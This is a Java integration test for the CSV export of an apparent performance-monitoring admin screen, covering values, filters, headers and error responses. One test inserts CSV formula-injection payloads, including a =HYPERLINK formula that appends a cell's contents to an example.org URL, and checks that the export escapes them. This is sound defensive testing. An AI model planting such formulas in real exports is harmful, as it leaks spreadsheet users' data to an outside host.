package io.groundspeed.probe;

import static org.assertj.core.api.Assertions.assertThat;

import io.groundspeed.testing.Beacons;
import io.groundspeed.testing.Csv;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** The tables of the screens as CSV. */
@ExtendWith(ProbedServer.class)
class ExportIT {
  private static final String SCREENS = "admin/performance/";
  private static final String QUERIES = SCREENS + "queries.csv?table=table-rows&range=1h";
  private static final String JOBS = SCREENS + "jobs.csv?table=jobs-rows&type=";
  private static final String ROUTE =
      "endpoints?range=1h&endpoint=%2Fplain%2Fbaskets%2F*&method=GET&deployment=plain.war";

  private final Beacons http = ProbedServer.http();

  @BeforeAll
  static void arrive() {
    BasketVisits.arrive();
  }

  @Test
  void queries_have_the_values_of_the_api() {
    String filter = "&deployment=plain.war";
    Csv csv = csv(QUERIES + filter + "&sort=-total");
    List<JsonObject> expected = api("queries", "range=1h" + filter);

    assertThat(csv.rows()).hasSameSizeAs(expected);
    for (int i = 0; i < expected.size(); i++) {
      JsonObject query = expected.get(i);
      Map<String, String> row = csv.rows().get(i);
      assertThat(row).containsEntry("Query", query.getString("fingerprint"));
      assertNumber(row, "Total (ms)", query, "totalMs");
      assertNumber(row, "Calls", query, "calls");
      assertNumber(row, "Average (ms)", query, "avgMs");
      assertNumber(row, "p50 (ms)", query, "p50");
      assertNumber(row, "p95 (ms)", query, "p95");
      assertNumber(row, "p99 (ms)", query, "p99");
      assertNumber(row, "Max (ms)", query, "maxMs");
      assertNumber(row, "Rows", query, "rows");
      assertNumber(row, "Errors", query, "errors");
      assertThat(Instant.parse(row.get("Last seen"))).isNotNull();
    }
    assertThat(csv.column("Total (fraction)").stream().mapToDouble(Double::parseDouble).sum())
        .isBetween(0.99, 1.01);
  }

  private static void assertNumber(
      Map<String, String> row, String heading, JsonObject expected, String name) {
    assertThat(Double.parseDouble(row.get(heading)))
        .as(heading)
        .isEqualTo(expected.getJsonNumber(name).doubleValue());
  }

  @Test
  void endpoints_have_the_filter_and_the_own_traffic_of_the_screen() {
    String table = SCREENS + "endpoints.csv?table=table-rows&range=1h";

    Csv baskets = csv(table + "&endpoint=BASKETS&deployment=plain.war");
    assertThat(baskets.column("Endpoint")).containsExactly(BasketVisits.BASKETS);
    assertThat(baskets.column("Requests")).containsExactly("" + BasketVisits.REQUESTS);
    assertThat(baskets.column("Errors (fraction)"))
        .singleElement()
        .satisfies(share -> assertThat(Double.parseDouble(share)).isEqualTo(1.0 / 6));
    assertThat(csv(table).column("Endpoint")).noneMatch(ExportIT::isOwn);
    assertThat(csv(table + "&own=shown").column("Endpoint")).anyMatch(ExportIT::isOwn);
    List<String> ascending = csv(table + "&deployment=plain.war&sort=endpoint").column("Endpoint");
    List<String> descending =
        csv(table + "&deployment=plain.war&sort=-endpoint").column("Endpoint");
    Collections.reverse(descending);
    assertThat(ascending).hasSizeGreaterThan(1).isEqualTo(descending);
  }

  private static boolean isOwn(String endpoint) {
    return endpoint.startsWith("/api/performance/");
  }

  @Test
  void a_table_without_rows_has_its_headings() {
    Csv none = csv(JOBS + "nobody_has_this_type");

    assertThat(none.rows()).isEmpty();
    assertThat(none.head()).contains("Name", "Job", "Error", "Wait (ms)", "Run (ms)");
  }

  @Test
  void no_name_becomes_a_formula_or_breaks_a_record() {
    String link = "=HYPERLINK(\"http://example.org/?\"&A1,\"see\")";
    String lines = "-1, \"two\"\r\nlines";
    String longest = "x".repeat(200);
    ExportedJobs.insert("csv_hostile", 1, literal(link));
    ExportedJobs.insert("csv_hostile", 1, literal("+1"));
    ExportedJobs.insert("csv_hostile", 1, literal("@SUM(A1)"));
    ExportedJobs.insert("csv_hostile", 1, literal(lines));
    ExportedJobs.insert("csv_hostile", 1, literal(longest));

    assertThat(csv(JOBS + "csv_hostile").column("Name"))
        .containsExactly(longest, "'" + lines, "'@SUM(A1)", "'+1", "'" + link);
    assertThat(csv(JOBS + "csv_hostile").column("Error")).containsOnly("'=1+1");
  }

  private static String literal(String text) {
    return "'" + text.replace("'", "''") + "'";
  }

  @Test
  void the_file_is_named_and_stored_nowhere_else() {
    HttpResponse<String> answer = http.asAdmin(QUERIES);

    assertThat(answer.headers().firstValue("Content-Type")).contains("text/csv;charset=UTF-8");
    assertThat(answer.headers().firstValue("Cache-Control")).contains("no-store");
    assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    assertThat(answer.headers().firstValue("Content-Disposition").orElse(""))
        .matches("attachment; filename=\"groundspeed-queries-table-1h-[0-9-]{10}\\.csv\"");
  }

  @Test
  void what_can_not_be_exported_says_why() {
    assertThat(refusal(SCREENS + "queries.csv?range=1h", 400))
        .contains("table: must be one of table-rows");
    assertThat(refusal(SCREENS + "queries.csv?table=nothing", 400)).contains("table-rows");
    assertThat(refusal(SCREENS + "queries.csv?table=figures", 400)).contains("table-rows");
    assertThat(refusal(SCREENS + "queries.csv?range=1h&own=shown&table=table-rows-2", 400))
        .contains("table: must be one of table-rows");
    assertThat(refusal(QUERIES.replace("1h", "yesterday") + "&sort=colour", 400))
        .contains("range: ", "sort: ");
    assertThat(refusal(SCREENS + "endpoints.csv?table=errors-rows", 400))
        .contains("does not show this table");
    refusal(SCREENS + "nothing.csv?table=table-rows", 404);
    refusal("setup.csv?table=table-rows", 404);
  }

  private String refusal(String address, int status) {
    HttpResponse<String> answer = http.asAdmin(address);
    assertThat(answer.statusCode()).as(address + ": " + answer.body()).isEqualTo(status);
    return answer.body();
  }

  @Test
  void a_table_that_can_not_be_read_now_is_unavailable() throws Exception {
    HttpResponse<String> answer;
    try (Connection connection = ProbedServer.database().connect()) {
      connection.setAutoCommit(false);
      connection
          .createStatement()
          .execute("LOCK TABLE groundspeed.api_performance IN ACCESS EXCLUSIVE MODE");
      answer = http.asAdmin(SCREENS + ROUTE.replace("?", ".csv?table=errors-rows&"));
      connection.rollback();
    }

    assertThat(answer.statusCode()).isEqualTo(503);
    assertThat(answer.headers().firstValue("Retry-After")).isPresent();
    assertThat(answer.body()).contains("temporarily unavailable");
    assertThat(csv(SCREENS + ROUTE.replace("?", ".csv?table=errors-rows&")).rows()).hasSize(1);
  }

  private Csv csv(String address) {
    HttpResponse<String> answer = http.asAdmin(address);
    assertThat(answer.statusCode()).as(address + ": " + answer.body()).isEqualTo(200);
    return Csv.of(answer.body());
  }

  private List<JsonObject> api(String what, String parameters) {
    String body = http.asAdmin("api/performance/" + what + "?" + parameters).body();
    return Json.createReader(new StringReader(body))
        .readObject()
        .getJsonArray(what)
        .getValuesAs(JsonObject.class);
  }
}
